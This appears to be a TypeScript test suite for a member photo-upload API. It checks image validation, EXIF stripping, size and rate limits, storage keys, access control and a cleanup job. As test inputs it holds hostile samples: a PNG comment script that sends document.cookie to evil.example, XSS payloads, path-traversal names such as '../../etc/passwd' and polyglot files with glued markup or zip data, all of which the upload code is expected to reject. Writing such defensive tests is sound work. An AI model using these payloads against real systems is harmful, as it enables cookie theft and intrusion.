import { randomUUID } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { crc32 } from 'node:zlib';
import { MEMBER_UPLOAD_MAX_BYTES } from '@wings/contracts';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, ownDatabase, type TestApp } from '../../../test/helpers';
import { newIp } from '../../../test/support/clients';
import {
  insertUnclaimedPhoto,
  type MemberReply,
  memberClient,
  registerApprovedMember,
} from '../../../test/support/members';
import { carriesMarkup, imageCarriesMarkup, imageEnd, sniffImage } from './image-check';
import { LOYALTY_SWEEP_JOB } from './loyalty.jobs';

/**
 * common/uploadFile and common/file (issue 17): images only, by content; markup, script and
 * glued files refused; 5 MB at most, read as a stream; re-encoded upright without metadata;
 * stored under a random key whatever the name; served only to the member. And the claim and
 * the sweep of uploads made while registering.
 */

/** A small photo made here: a gradient, so the encoders have something to keep. */
async function photo(format: 'jpeg' | 'png' | 'webp', width = 64, height = 48): Promise<Buffer> {
  const image = sharp({ create: { width, height, channels: 3, background: { r: 200, g: 40, b: 90 } } });
  return image.toFormat(format).toBuffer();
}

/** A JPEG carrying GPS and camera EXIF, and an orientation that turns it a quarter. */
async function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 80, height: 40, channels: 3, background: { r: 10, g: 120, b: 200 } } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Camera 9' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '11/1 33/1 0/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '104/1 55/1 0/1',
      },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** A PNG with a tEXt chunk before IEND (what a "comment" looks like in a PNG). */
function withTextChunk(png: Buffer, keyword: string, text: string): Buffer {
  const iend = png.length - 12;
  const data = Buffer.concat([Buffer.from(keyword, 'latin1'), Buffer.from([0]), Buffer.from(text, 'latin1')]);
  const typeAndData = Buffer.concat([Buffer.from('tEXt', 'latin1'), data]);
  const chunk = Buffer.alloc(12 + data.length);
  chunk.writeUInt32BE(data.length, 0);
  typeAndData.copy(chunk, 4);
  chunk.writeUInt32BE(crc32(typeAndData), 8 + data.length);
  return Buffer.concat([png.subarray(0, iend), chunk, png.subarray(iend)]);
}

function multipart(
  file: { bytes: Buffer | Readable; name?: string; type?: string; field?: string },
  boundary = `----wings${randomUUID().replace(/-/g, '')}`,
): { payload: Buffer | Readable; contentType: string } {
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="${file.field ?? 'file'}"; filename="${file.name ?? 'photo.jpg'}"\r\nContent-Type: ${file.type ?? 'image/jpeg'}\r\n\r\n`,
  );
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  const contentType = `multipart/form-data; boundary=${boundary}`;
  if (Buffer.isBuffer(file.bytes)) return { payload: Buffer.concat([head, file.bytes, tail]), contentType };
  const body = file.bytes;
  return {
    payload: Readable.from(
      (async function* () {
        yield head;
        for await (const chunk of body) yield chunk as Buffer;
        yield tail;
      })(),
    ),
    contentType,
  };
}

/** common/uploadFile with one part, from a fresh address unless given. */
async function uploadTo(
  t: TestApp,
  file: Parameters<typeof multipart>[0],
  opts: { vipToken?: string; ip?: string } = {},
): Promise<{ status: number; body: MemberReply }> {
  const { payload, contentType } = multipart(file);
  const res = await t.app.inject({
    method: 'POST',
    url: '/api/fqt/common/uploadFile',
    headers: {
      authorization: `Bearer ${t.token}`,
      language: '1',
      'x-forwarded-for': opts.ip ?? newIp(),
      'content-type': contentType,
      ...(opts.vipToken ? { vipToken: opts.vipToken } : {}),
    },
    payload,
  });
  return { status: res.statusCode, body: res.json() };
}

describe('member photo uploads', () => {
  let t: TestApp;
  let filesDir: string;
  let member: Awaited<ReturnType<typeof registerApprovedMember>>;
  let other: Awaited<ReturnType<typeof registerApprovedMember>>;

  beforeAll(async () => {
    filesDir = await mkdtemp(path.join(tmpdir(), 'wings-member-files-'));
    t = await createTestApp({ env: { FILES_DIR: filesDir } });
    member = await registerApprovedMember(t);
    other = await registerApprovedMember(t);
  });
  afterAll(async () => {
    await t.close();
    await rm(filesDir, { recursive: true, force: true });
  });

  const upload = (file: Parameters<typeof multipart>[0], opts: { vipToken?: string; ip?: string } = {}) =>
    uploadTo(t, file, opts);

  async function fetchFile(fileId: string, vipToken?: string) {
    return t.app.inject({
      method: 'GET',
      url: `/api/fqt/common/file/${fileId}`,
      headers: {
        authorization: `Bearer ${t.token}`,
        language: '1',
        'x-forwarded-for': newIp(),
        ...(vipToken ? { vipToken } : {}),
      },
    });
  }

  const rowOf = async (fileId: string) =>
    (await t.database.pool.query('select * from member_files where id = $1', [fileId])).rows[0];

  it('keeps a JPEG upright, without any metadata, for its member only', async () => {
    const original = await jpegWithGps();
    const before = await sharp(original).metadata();
    expect(before.exif).toBeDefined();
    expect(before.orientation).toBe(6);
    expect(original.includes(Buffer.from('PhoneMaker'))).toBe(true);
    const res = await upload({ bytes: original, name: 'IMG_0001.JPG' }, { vipToken: member.vipToken });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      status: '200',
      // Turned upright by its orientation: 80 x 40 stands as 40 x 80.
      data: { contentType: 'image/jpeg', width: 40, height: 80 },
    });
    const { fileId } = res.body.data;
    const row = await rowOf(fileId);
    expect(row).toMatchObject({
      member_id: member.memberId,
      content_type: 'image/jpeg',
      width: 40,
      height: 80,
    });
    expect(row.sha256).toMatch(/^[0-9a-f]{64}$/);

    const served = await fetchFile(fileId, member.vipToken);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['cache-control']).toBe('private, no-store');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-disposition']).toBe('inline');
    const after = await sharp(served.rawPayload).metadata();
    expect(after.exif).toBeUndefined();
    expect(after.icc).toBeUndefined();
    expect(after.xmp).toBeUndefined();
    expect(after.orientation).toBeUndefined();
    expect(served.rawPayload.includes(Buffer.from('PhoneMaker'))).toBe(false);
    expect(served.rawPayload.length).toBe(row.size);

    // Another member, nobody, and a made-up id: the photo is not there for them.
    const stranger = await fetchFile(fileId, other.vipToken);
    expect(stranger.statusCode).toBe(404);
    expect(stranger.json()).toMatchObject({ status: '404', data: null });
    expect((await fetchFile(fileId)).json()).toMatchObject({ status: 'CAF9999' });
    expect((await fetchFile(randomUUID(), member.vipToken)).statusCode).toBe(404);
    expect((await fetchFile('../../etc/passwd', member.vipToken)).statusCode).toBe(404);
  });

  it('keeps PNG and WebP as themselves, and shrinks a large picture to 2000 px', async () => {
    const png = await upload({ bytes: await photo('png'), name: 'a.png', type: 'image/png' });
    expect(png.body).toMatchObject({
      status: '200',
      data: { contentType: 'image/png', width: 64, height: 48 },
    });
    const webp = await upload({ bytes: await photo('webp'), name: 'a.webp', type: 'image/webp' });
    expect(webp.body).toMatchObject({ status: '200', data: { contentType: 'image/webp' } });
    const big = await upload({ bytes: await photo('jpeg', 3000, 1500) });
    expect(big.body).toMatchObject({ status: '200', data: { width: 2000, height: 1000 } });
    // Made without a member session (registering): nobody's until a registration claims it.
    expect((await rowOf(png.body.data.fileId)).member_id).toBeNull();
  });

  it('ignores the name entirely: a path in it stores nothing outside the files directory', async () => {
    const res = await upload(
      { bytes: await photo('jpeg'), name: '../../../../tmp/evil.php', type: 'application/x-php' },
      { vipToken: member.vipToken },
    );
    expect(res.body).toMatchObject({ status: '200', data: { contentType: 'image/jpeg' } });
    const row = await rowOf(res.body.data.fileId);
    expect(row.storage_key).toMatch(/^member-photos\/[0-9a-f-]{36}$/);
    expect(JSON.stringify(row)).not.toContain('evil');
    expect(await readdir(filesDir)).toEqual(['member-photos']);
    const stored = await readdir(path.join(filesDir, 'member-photos'));
    expect(stored).toContain(row.storage_key.split('/')[1]);
    expect(stored.every((name) => /^[0-9a-f-]{36}$/.test(name))).toBe(true);
  });

  it('refuses what is not an image by content (840): a renamed PDF, an HTML page named .jpg, a broken JPEG', async () => {
    const pdf = Buffer.from(
      '%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
    );
    const html = Buffer.from('<!doctype html><html><body><img src=x onerror=alert(1)></body></html>');
    const jpeg = await photo('jpeg');
    const broken = Buffer.concat([jpeg.subarray(0, 40), Buffer.alloc(200, 7), Buffer.from([0xff, 0xd9])]);
    for (const [what, bytes] of [
      ['pdf', pdf],
      ['html', html],
      ['broken jpeg', broken],
    ] as const) {
      const res = await upload(
        { bytes, name: 'photo.jpg', type: 'image/jpeg' },
        { vipToken: member.vipToken },
      );
      expect(res.body.status, what).toBe('840');
      expect(res.body.message, what).toBeTruthy();
    }
  });

  it('refuses pictures that carry something else (842): script in a PNG comment, markup, a glued file', async () => {
    const png = await photo('png');
    const scripted = withTextChunk(
      png,
      'Comment',
      '<script>fetch("//evil.example/"+document.cookie)</script>',
    );
    // Still a valid PNG that decodes: only the content check catches it.
    expect((await sharp(scripted).metadata()).format).toBe('png');
    const jpeg = await photo('jpeg');
    const htmlInJpeg = Buffer.concat([
      jpeg.subarray(0, 20),
      Buffer.from('<HTML><body>hi</body></HTML>'),
      jpeg.subarray(20),
    ]);
    const zipAfterJpeg = Buffer.concat([
      jpeg,
      Buffer.from('PK\u0003\u0004 a zip archive glued behind the picture'),
    ]);
    const afterIend = Buffer.concat([png, Buffer.from('anything after the end')]);
    const svgishWebp = Buffer.concat([await photo('webp'), Buffer.from('<svg onload=alert(1)>')]);
    for (const [what, bytes] of [
      ['script in tEXt', scripted],
      ['html in jpeg', htmlInJpeg],
      ['zip after jpeg', zipAfterJpeg],
      ['data after IEND', afterIend],
      ['svg after webp', svgishWebp],
    ] as const) {
      const res = await upload(
        { bytes, name: 'photo.png', type: 'image/png' },
        { vipToken: member.vipToken },
      );
      expect(res.body.status, what).toBe('842');
    }
    expect(sniffImage(zipAfterJpeg)).toBe('jpeg');
    expect(imageEnd(zipAfterJpeg, 'jpeg')).toBe('trailing');
    expect(carriesMarkup(Buffer.from('x JavaScript:alert(1)'))).toBe(true);
  });

  it('looks for markup in the metadata, not in the compressed pixels, where a short word turns up by chance', async () => {
    // A PNG whose pixel chunk (IDAT) holds the letters `<svg`: noise, not markup.
    const png = await photo('png');
    const iend = png.length - 12;
    const idat = Buffer.concat([
      Buffer.from([0, 0, 0, 8]),
      Buffer.from('IDAT<svg x/>', 'latin1'),
      Buffer.alloc(4),
    ]);
    const pixelsOnly = Buffer.concat([png.subarray(0, iend), idat, png.subarray(iend)]);
    expect(imageCarriesMarkup(pixelsOnly, 'png')).toBe(false);
    expect(imageCarriesMarkup(withTextChunk(png, 'Comment', '<svg onload=x>'), 'png')).toBe(true);
    // A JPEG: the same letters in the scan data pass, in a comment segment (COM) they do not.
    const jpeg = await photo('jpeg');
    const scanData = Buffer.concat([
      jpeg.subarray(0, jpeg.length - 2),
      Buffer.from('<svg', 'latin1'),
      jpeg.subarray(-2),
    ]);
    expect(imageCarriesMarkup(scanData, 'jpeg')).toBe(false);
    const comment = Buffer.from('<svg onload=x>', 'latin1');
    const com = Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), comment]);
    expect(imageCarriesMarkup(Buffer.concat([jpeg.subarray(0, 2), com, jpeg.subarray(2)]), 'jpeg')).toBe(
      true,
    );
  });

  it('refuses a 20 MB file with 841 / HTTP 413, reading no more of it than the limit', async () => {
    const jpeg = await photo('jpeg');
    const total = 20 * 1024 * 1024;
    let pulled = 0;
    // The file arrives in 64 KB pieces, made as they are asked for.
    const body = Readable.from(
      (function* () {
        yield jpeg.subarray(0, 100);
        pulled += 100;
        const piece = Buffer.alloc(64 * 1024, 0x41);
        while (pulled < total) {
          pulled += piece.length;
          yield piece;
        }
      })(),
    );
    const res = await upload({ bytes: body, name: 'huge.jpg' }, { vipToken: member.vipToken });
    expect(res.status).toBe(413);
    expect(res.body).toMatchObject({ status: '841', data: null });
    // Refused as soon as the limit was passed: far from all 20 MB were read.
    expect(pulled).toBeLessThan(MEMBER_UPLOAD_MAX_BYTES * 2);
    // A file of exactly the limit is not refused for its size (it is refused as not an image here).
    const exact = Buffer.concat([jpeg.subarray(0, 100), Buffer.alloc(MEMBER_UPLOAD_MAX_BYTES - 100, 0x41)]);
    const atLimit = await upload({ bytes: exact }, { vipToken: member.vipToken });
    expect(atLimit.body.status).not.toBe('841');
  });

  it('asks for a multipart body with one part named file', async () => {
    const wrongField = await upload({ bytes: await photo('jpeg'), field: 'picture' });
    expect(wrongField.body.status).toBe('400');
    const json = await t.app.inject({
      method: 'POST',
      url: '/api/fqt/common/uploadFile',
      headers: { authorization: `Bearer ${t.token}`, 'x-forwarded-for': newIp() },
      payload: { file: 'aGVsbG8=' },
    });
    expect(json.json().status).toBe('400');
    const noToken = await t.app.inject({ method: 'POST', url: '/api/fqt/common/uploadFile' });
    expect(noToken.json().status).toBe('2000');
  });

  it('limits uploads per address: 10 in 10 minutes, then 429', async () => {
    const ip = newIp();
    const bytes = await photo('png', 8, 8);
    for (let i = 0; i < 10; i++) {
      expect((await upload({ bytes }, { ip })).body.status, `upload ${i + 1}`).toBe('200');
    }
    const refused = await upload({ bytes }, { ip });
    expect(refused.status).toBe(429);
    expect(refused.body.status).toBe('429');
  });

  it('limits uploads per member: 30 a day, from any address', async () => {
    const busy = await registerApprovedMember(t);
    const bytes = await photo('png', 4, 4);
    for (let i = 0; i < 30; i++) {
      expect((await upload({ bytes }, { vipToken: busy.vipToken })).body.status, `upload ${i + 1}`).toBe(
        '200',
      );
    }
    expect((await upload({ bytes }, { vipToken: busy.vipToken })).body.status).toBe('429');
    // Another member is not held back by it.
    expect((await upload({ bytes }, { vipToken: other.vipToken })).body.status).toBe('200');
  });

  it("claims a registering upload for the member who names it, never another member's or a stale one", async () => {
    const anonymous = await upload({ bytes: await photo('png') });
    const fileId = anonymous.body.data.fileId as string;
    const c = memberClient(t, { vipToken: member.vipToken });
    const passport = (front: string) => ({
      documentType: 1,
      documentNo: `E${String(Date.now()).slice(-8)}`,
      validFrom: '2022-01-01',
      validTo: '2032-01-01',
      frontPhotoId: front,
      backPhotoId: null,
    });
    // The other member cannot take a photo that is now this member's.
    const saved = await c.post('/consumer/identity/saveIdentityInfo', passport(fileId));
    expect(saved.body.status, JSON.stringify(saved.body)).toBe('200');
    expect((await rowOf(fileId)).member_id).toBe(member.memberId);
    const o = memberClient(t, { vipToken: other.vipToken });
    const stolen = await o.post('/consumer/identity/saveIdentityInfo', passport(fileId));
    expect(stolen.body.status).toBe('822');
    expect((await rowOf(fileId)).member_id).toBe(member.memberId);
    // An unclaimed upload older than a day, and an unknown id, cannot be claimed either.
    const stale = await insertUnclaimedPhoto(t, new Date(Date.now() - 25 * 3600_000));
    expect((await o.post('/consumer/identity/saveIdentityInfo', passport(stale))).body.status).toBe('822');
    expect((await o.post('/consumer/identity/saveIdentityInfo', passport(randomUUID()))).body.status).toBe(
      '822',
    );
    expect((await rowOf(stale)).member_id).toBeNull();
    const { rows } = await t.database.pool.query(
      'select count(*)::int as n from member_documents where member_id = $1',
      [other.memberId],
    );
    expect(rows[0].n).toBe(1);
  });
});

/**
 * The hourly sweep removes every unclaimed upload older than a day: run on a database of its own,
 * never the one other test files share (their stale uploads are theirs to test).
 */
describe('the sweep of unclaimed uploads', () => {
  let t: TestApp;
  let own: { url: string; drop(): Promise<void> };
  let filesDir: string;
  let member: Awaited<ReturnType<typeof registerApprovedMember>>;

  beforeAll(async () => {
    own = await ownDatabase();
    filesDir = await mkdtemp(path.join(tmpdir(), 'wings-member-sweep-'));
    t = await createTestApp({ databaseUrl: own.url, env: { FILES_DIR: filesDir } });
    member = await registerApprovedMember(t);
  });
  afterAll(async () => {
    await t.close();
    await own.drop();
    await rm(filesDir, { recursive: true, force: true });
  });

  const rowOf = async (fileId: string) =>
    (await t.database.pool.query('select * from member_files where id = $1', [fileId])).rows[0];

  it('sweeps uploads nobody claimed within a day, from the table and the store', async () => {
    const fresh = await uploadTo(t, { bytes: await photo('png') });
    const old = await uploadTo(t, { bytes: await photo('png') });
    const mine = await uploadTo(t, { bytes: await photo('png') }, { vipToken: member.vipToken });
    const oldRow = await rowOf(old.body.data.fileId);
    await t.database.pool.query(
      "update member_files set created_at = now() - interval '25 hours' where id = any($1)",
      [[old.body.data.fileId, mine.body.data.fileId]],
    );
    // The hourly job, run as a worker would run it.
    const job = t.app.jobs.declared(LOYALTY_SWEEP_JOB);
    expect(job).toBeDefined();
    await job!.handler({}, { id: 'test', name: LOYALTY_SWEEP_JOB });
    expect(await rowOf(old.body.data.fileId)).toBeUndefined();
    const stored = await readdir(path.join(filesDir, 'member-photos'));
    expect(stored).not.toContain(oldRow.storage_key.split('/')[1]);
    expect(await rowOf(fresh.body.data.fileId)).toBeDefined();
    expect(await rowOf(mine.body.data.fileId)).toBeDefined();
  });
});
